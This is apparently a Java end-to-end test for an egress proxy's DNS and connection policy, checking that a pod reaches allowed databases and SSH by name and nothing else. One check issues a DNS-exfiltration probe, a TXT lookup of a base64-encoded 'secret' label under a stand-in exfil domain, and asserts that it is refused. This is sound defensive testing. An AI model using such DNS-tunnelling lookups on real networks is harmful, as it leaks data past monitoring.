package dev.sallyport.proxy.e2e;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.sallyport.testkit.cluster.SallyportSystem;
import dev.sallyport.testkit.cluster.UserPods;
import dev.sallyport.testkit.pod.ProcessCredentials;
import dev.sallyport.testkit.pod.RunningPod;
import dev.sallyport.testkit.shell.CommandResult;
import dev.sallyport.testkit.shell.Eventually;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** A governed pod's names: which resolver it uses does not matter, what it may know does, and databases are decided by name. */
@ExtendWith(OnAttackGround.class)
class NamesNetnsIT {
    @Test
    void databasesAreReachedByNameAndNamesOfOthersAreNotTold(AttackGround here) throws Exception {
        double generation = here.metric("sallyport_policy_generation", "");
        here.write("books.yaml", """
                apiVersion: egress.sallyport.dev/v1alpha1
                kind: EgressPolicy
                metadata: { name: books, namespace: shop }
                spec:
                  subjects: [{ serviceAccount: books }]
                  rules:
                    - { name: cache, hosts: [cache.partner.example], ports: [6379] }
                    - { name: db, hosts: [db.partner.example], ports: [5432], protocols: [TCP] }
                    - { name: shell, hosts: [ledger.partner.example], ports: [22] }
                """);
        Eventually.await(
                "the policy is in force",
                Duration.ofSeconds(10),
                () -> here.metric("sallyport_policy_generation", "") > generation);
        try (RealServers servers = new RealServers(here);
                RunningPod books = here.system().run(UserPods.app("shop", "books", "books"))) {
            databasesByName(here, books);
            sshByName(here, books, servers);
            everyResolver(here, books);
            whatItMayNotKnow(here, books);
            metrics(books);
        } finally {
            here.remove("books.yaml");
        }
    }

    private static void databasesByName(AttackGround here, RunningPod books) {
        Eventually.await(
                "redis answers",
                Duration.ofSeconds(10),
                () -> said(books, "redis-cli", "-h", "cache.partner.example", "ping")
                        .contains("PONG"));
        JsonNode redis = here.records()
                .await(1, r -> r.path("authority").asText().equals("cache.partner.example:6379"))
                .getLast();
        assertEquals("shop/books/cache", redis.path("rule").asText(), redis::toString);
        String psql = said(
                books,
                "psql",
                "-w",
                "host=db.partner.example user=books dbname=books connect_timeout=5",
                "-c",
                "select 1");
        assertTrue(psql.contains("this is the testkit's PostgreSQL"), psql);
        JsonNode postgres = here.records()
                .await(1, r -> r.path("authority").asText().equals("db.partner.example:5432"))
                .getLast();
        assertEquals("shop/books/db", postgres.path("rule").asText(), postgres::toString);
        assertEquals("tcp", postgres.path("protocol").asText());
        // By address alone it is nameless as ever, unless the address was given out for the name.
        String direct = said(books, "redis-cli", "-h", "192.175.48.33", "ping");
        assertFalse(direct.contains("PONG"), direct);
    }

    /** Server and client speak at once; the client's user is root, whom this machine's passwd knows. */
    private static void sshByName(AttackGround here, RunningPod books, RealServers servers) {
        List<String> command = new ArrayList<>(servers.ssh("ledger.partner.example"));
        command.add("echo from-the-other-side");
        CommandResult ssh =
                books.exec(SallyportSystem.APP, ProcessCredentials.defaultRoot(), Duration.ofSeconds(30), command);
        assertTrue(ssh.succeeded() && ssh.stdout().contains("from-the-other-side"), ssh::output);
        JsonNode record = here.records()
                .await(1, r -> r.path("authority").asText().equals("ledger.partner.example:22"))
                .getLast();
        assertEquals("shop/books/shell", record.path("rule").asText(), record::toString);
        List<String> elsewhere = new ArrayList<>(servers.ssh("192.175.48.33"));
        elsewhere.add("true");
        assertFalse(books.exec(SallyportSystem.APP, ProcessCredentials.defaultRoot(), Duration.ofSeconds(30), elsewhere)
                .succeeded());
    }

    private static void everyResolver(AttackGround here, RunningPod books) throws Exception {
        for (String transport : List.of("+notcp", "+tcp", "+noedns")) {
            for (String server : List.of("@10.96.0.10", "@8.8.8.8", "@2001:4860:4860::8888", "@127.0.0.53")) {
                String dig = said(books, "dig", "+tries=1", "+time=4", transport, server, "cache.partner.example", "A");
                assertTrue(dig.contains("192.175.48.31"), transport + " " + server + ": " + dig);
            }
        }
        String ahosts = said(books, "getent", "ahosts", "cache.partner.example");
        assertTrue(ahosts.contains("192.175.48.31") && ahosts.contains("2620:4f:8000::31"), ahosts);
        assertTrue(said(books, "getent", "ahostsv4", "db.partner.example").contains("192.175.48.32"));
        assertTrue(said(books, "getent", "hosts", "kubernetes.default").contains("10.96.0.1"), "by a search domain");
        String reverse = said(books, "dig", "+short", "-x", "192.175.48.31");
        assertTrue(reverse.contains("cache.partner.example."), reverse);
        String musl =
                said(books, musl(here).toString(), "cache.partner.example", "db.partner.example", "kubernetes.default");
        for (String expected : List.of(
                "cache.partner.example\t192.175.48.31",
                "cache.partner.example\t2620:4f:8000::31",
                "db.partner.example\t192.175.48.32",
                "kubernetes.default\t10.96.0.1")) {
            assertTrue(musl.contains(expected), musl);
        }
    }

    private static void whatItMayNotKnow(AttackGround here, RunningPod books) {
        String refused = said(books, "dig", "+tries=1", "+time=4", "c2VjcmV0.exfil.wild.example", "TXT");
        assertTrue(refused.contains("status: REFUSED") && refused.contains("No rule of this workload"), refused);
        long before = System.nanoTime();
        CommandResult getent = books.exec(SallyportSystem.APP, "getent", "ahosts", "api.payments.example");
        assertFalse(getent.succeeded(), getent.output());
        assertTrue(Duration.ofNanos(System.nanoTime() - before).compareTo(Duration.ofSeconds(4)) < 0, "glibc gives up");
        JsonNode record = here.records()
                .await(1, r -> r.path("authority").asText().equals("c2vjcmv0.exfil.wild.example:53"))
                .getLast();
        assertEquals("no_rule", record.path("reason").asText(), record::toString);
        assertEquals(books.uid(), record.path("pod_uid").asText());
        assertTrue(
                here.cluster().world().clusterDnsLog().stream().noneMatch(line -> line.contains("exfil.wild.example")));
        assertTrue(here.cluster().world().outsideDnsLog().isEmpty(), "no foreign resolver was asked");
    }

    private static void metrics(RunningPod books) {
        String metrics = said(
                books,
                "curl",
                "-sS",
                "http://%s:15420/q/metrics".formatted(books.addresses().v4()));
        for (String series : List.of(
                "answer=\"answered\",way=\"gateway\"",
                "answer=\"answered\",way=\"resolver\"",
                "answer=\"refused\",way=\"gateway\"")) {
            assertTrue(
                    metrics.lines()
                            .anyMatch(line -> line.startsWith("sallyport_dns_questions_total{" + series)
                                    && !line.endsWith(" 0.0")),
                    series);
        }
    }

    private static Path musl(AttackGround here) throws Exception {
        Path source = here.cluster().folder().resolve("lookup.c");
        copy("/e2e/lookup.c", source);
        Path program = Files.createTempDirectory("sallyport-musl").resolve("lookup");
        Process compiler = new ProcessBuilder("musl-gcc", "-static", "-o", program.toString(), source.toString())
                .inheritIO()
                .start();
        assertEquals(0, compiler.waitFor());
        program.getParent().toFile().deleteOnExit();
        program.toFile().deleteOnExit();
        program.getParent().toFile().setExecutable(true, false);
        program.getParent().toFile().setReadable(true, false);
        return program;
    }

    private static void copy(String resource, Path to) throws IOException {
        try (InputStream in = Objects.requireNonNull(NamesNetnsIT.class.getResourceAsStream(resource))) {
            Files.write(to, in.readAllBytes());
        }
    }

    private static String said(RunningPod pod, String... command) {
        return pod.exec(SallyportSystem.APP, command).output();
    }
}
